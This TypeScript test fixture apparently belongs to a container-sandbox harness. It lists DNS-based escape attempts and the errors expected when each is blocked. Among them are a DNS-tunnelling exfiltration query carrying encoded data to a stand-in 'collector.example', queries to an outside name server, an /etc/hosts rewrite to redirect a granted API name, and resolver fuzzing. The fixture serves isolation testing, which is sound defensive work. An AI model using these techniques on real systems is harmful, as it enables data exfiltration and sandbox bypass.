import type { Attempt } from '../attempt.ts';

/** DNS in its forms: granted names are in /etc/hosts, every query is answered "no such name". */
export const names: readonly Attempt[] = [
  {
    id: 'lookup',
    attempt: 'look up another name',
    code: "return attempt(() => dns.promises.lookup('collector.example'))",
    expected: /^(ENOTFOUND|EAI_AGAIN)$/,
    recorded: /^collector\.example:53 a DNS query/,
  },
  {
    id: 'exfiltrate',
    attempt: 'carry data out in a query',
    code: "return attempt(() => dns.promises.resolveTxt('c2VjcmV0.collector.example'))",
    expected: /^ENOTFOUND$/,
    recorded: /^c2VjcmV0\.collector\.example:53 /i,
  },
  {
    id: 'own-server',
    attempt: 'ask a name server of our own',
    code: "const r = new dns.promises.Resolver(); r.setServers(['198.51.100.7']); return attempt(() => r.resolve4('collector.example'))",
    expected: /^(ENOTFOUND|ETIMEOUT|ECONNREFUSED)$/,
  },
  {
    id: 'own-server-tcp',
    attempt: 'DNS over TCP',
    code: "return tcp('198.51.100.7', 53, Buffer.alloc(20))",
    expected: /^(ECONNRESET|closed) $/,
    recorded: /^198\.51\.100\.7:53 /,
  },
  {
    id: 'granted-lookup',
    attempt: 'ask a server for the granted name',
    code: "return attempt(() => dns.promises.resolve4('api.twilio.com'))",
    // Only the pod's own resolver knows it, by an address of the pod's own loopback.
    expected: /^done 127\.77\.0\.1$/,
  },
  {
    id: 'host-name',
    attempt: "the engine's name for the host",
    code: "return attempt(() => dns.promises.lookup('host.docker.internal'))",
    expected: /^(ENOTFOUND|EAI_AGAIN)$/,
  },
  {
    id: 'neighbour',
    attempt: 'a neighbour by its container name',
    code: "return attempt(() => dns.promises.lookup('spendwise-gateway'))",
    expected: /^(ENOTFOUND|EAI_AGAIN)$/,
  },
  {
    id: 'hosts',
    attempt: 'rewrite /etc/hosts',
    code: "return attempt(() => fs.appendFileSync('/etc/hosts', '198.51.100.7 api.twilio.com'))",
    expected: /^(EROFS|EACCES)$/,
  },
  {
    id: 'dns-garbage',
    attempt: 'feed the resolver garbage',
    code: "for (const size of [0, 1, 11, 12, 13, 512, 9000]) await udp('127.77.255.53', 53, Buffer.alloc(size, 0xff)); return attempt(() => dns.promises.resolve4('still.alive.example'))",
    expected: /^ENOTFOUND$/,
  },
];
